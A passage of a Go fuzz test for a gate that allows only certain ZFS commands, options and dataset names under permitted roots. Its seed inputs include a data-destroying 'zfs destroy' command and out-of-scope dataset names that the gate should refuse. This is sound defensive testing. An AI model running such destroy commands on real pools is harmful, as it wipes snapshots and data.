		"zfs list -H -p -o name,guid,createtxg,userrefs -t snapshot -r host05data/jail 'tank/my data'",
		"zfs list -H -p -o name,origin -t filesystem host05data/jail",
		"zfs get -H -p -o name,property,value,source all host05data/jail",
		"zfs get -H -p -s local -o name,property,value -t filesystem,volume all -r host05data/jail 'tank/my data'",
		"zfs get -H -p -s local -o name,property,value -t filesystem,volume all host05data/vm/disk0",
		"zfs get -H -p -s local -o name,property,value -t filesystem,volume,snapshot all -r host05data/jail",
		"zfs get -H -p -s local -o name,property,value -t filesystem,volume mountpoint host05data/jail",
		"zfs send -n -P -L -c -w -I host05data/jail@a host05data/jail@b",
		"zfs send -L -c -i host05data/jail@a host05data/jail@b",
		"zfs send -L -c -i 'host05data/jail#a' host05data/jail@b",
		"zfs send -n -P -t " + tok,
		"zfs send -t " + rawTok,
		"zfs send -t " + makeToken("host05data/secret@a", true),
		"zfs hold vault:rust10:host05 host05data/jail@a 'tank/my data@b'",
		"zfs release vault:rust10:host05 host05data/vm@a",
		"zfs release vault:rust11:host05 host05data/vm@a",
		"zfs release vault:host05 host05data/vm@a",
		"zfs holds -H -p host05data/jail@a",
		"zfs snapshot host05data/jail@2022-04-08_16.49.48--1w host05data/vm@hourly-2022-04-08_16.50.00--2d",
		"zfs snapshot host05data/jail@2022-04-08_18.49.48--1w",
		"zfs destroy host05data/jail@a",
		"zfs list -H -p -o name -t filesystem host05data/jailbreak",
	} {
		f.Add(s)
	}
	g := testGate(f)
	g.HoldPrefix = "vault:rust10:"
	allowedSubs := []string{"list", "get", "send", "hold", "release", "holds", "snapshot"}
	f.Fuzz(func(t *testing.T, line string) {
		argv, err := g.Check(line)
		if err != nil {
			var re *RefusedError
			if !errors.As(err, &re) {
				t.Fatalf("Check(%q): error %v is a %T, want a *RefusedError", line, err, err)
			}
			return
		}
		if len(argv) < 3 || argv[0] != g.ZFS || !slices.Contains(allowedSubs, argv[1]) {
			t.Fatalf("Check(%q) accepted %q", line, argv)
		}
		for _, n := range nameArgs(t, argv) {
			if !nameUnder(g, n) {
				t.Fatalf("Check(%q) accepted %q: %q is not a name under an allowed root", line, argv, n)
			}
		}
		switch argv[1] {
		case "list":
			for _, c := range strings.Split(argv[5], ",") {
				if !listColumns[c] {
					t.Fatalf("Check(%q) accepted column %q", line, c)
				}
			}
		case "get":
			if !slices.Equal(argv[1:len(props.GetArgs)+1], props.GetArgs) {
				t.Fatalf("Check(%q) accepted %q, not the one form of zfs get", line, argv)
			}
			for _, n := range nameArgs(t, argv) {
				if _, err := zfs.ParseDataset(n); err != nil {
					t.Fatalf("Check(%q) accepted %q, which is not a dataset: %v", line, n, err)
				}
			}
		case "hold", "release":
			if !strings.HasPrefix(argv[2], g.HoldPrefix) || len(argv[2]) == len(g.HoldPrefix) {
				t.Fatalf("Check(%q) accepted tag %q", line, argv[2])
			}
		case "snapshot":
			for _, n := range argv[2:] {
				snap, _ := zfs.ParseSnapshot(n)
				name, ok := policy.ParseName(snap.Short(), testNow.Location())
				if d := name.Created.Sub(testNow); !ok || d > DefaultMaxSkew || d < -DefaultMaxSkew {
					t.Fatalf("Check(%q) accepted %q, dated %s from now", line, n, d)
				}
			}
		case "send":
			if i := slices.Index(argv, "-t"); i >= 0 {
				rt, err := decodeToken(argv[i+1])
				if err != nil || !nameUnder(g, rt.toname) {
					t.Fatalf("Check(%q) accepted a token for %q (%v)", line, rt.toname, err)
				}
				break
			}
			for _, a := range argv[2:] {
				if strings.HasPrefix(a, "-") && !slices.Contains([]string{"-n", "-P", "-L", "-c", "-w", "-i", "-I"}, a) {
					t.Fatalf("Check(%q) accepted option %q", line, a)
				}
			}
		}
	})
}

// nameArgs returns the arguments of an accepted argv that name datasets,
// snapshots or bookmarks, by where each form has them.
func nameArgs(t *testing.T, argv []string) []string {
	t.Helper()
	start := 0
	switch argv[1] {
	case "list":
		start = 8
		if argv[8] == "-r" {
			start = 9
		}
	case "get":
		start = len(props.GetArgs) + 1
		if argv[start] == "-r" {
			start++
		}
	case "hold", "release":
		start = 3
	case "holds":
		start = 3
		if argv[3] == "-p" {
			start = 4
		}
	case "snapshot":
		start = 2
	case "send":
		if slices.Contains(argv, "-t") {
			return nil
		}
		var names []string
		for _, a := range argv[2:] {
			if !strings.HasPrefix(a, "-") {
				names = append(names, a)
			}
		}
		return names
	default:
		t.Fatalf("accepted subcommand %q", argv[1])
	}
	if start >= len(argv) {
		t.Fatalf("accepted %q with no names", argv)
	}
	return argv[start:]
}

// nameUnder reports whether s is a dataset, snapshot or bookmark under one
// of g's roots.
func nameUnder(g *Gate, s string) bool {
	var ds zfs.Dataset
	if snap, err := zfs.ParseSnapshot(s); err == nil {
		ds = snap.Dataset()
	} else if bm, err := zfs.ParseBookmark(s); err == nil {
		ds = bm.Dataset()
	} else if d, err := zfs.ParseDataset(s); err == nil {
		ds = d
	} else {
		return false
	}
	for _, r := range g.Allow {
		if ds.HasPrefix(r) {
			return true
		}
	}
	return false
}
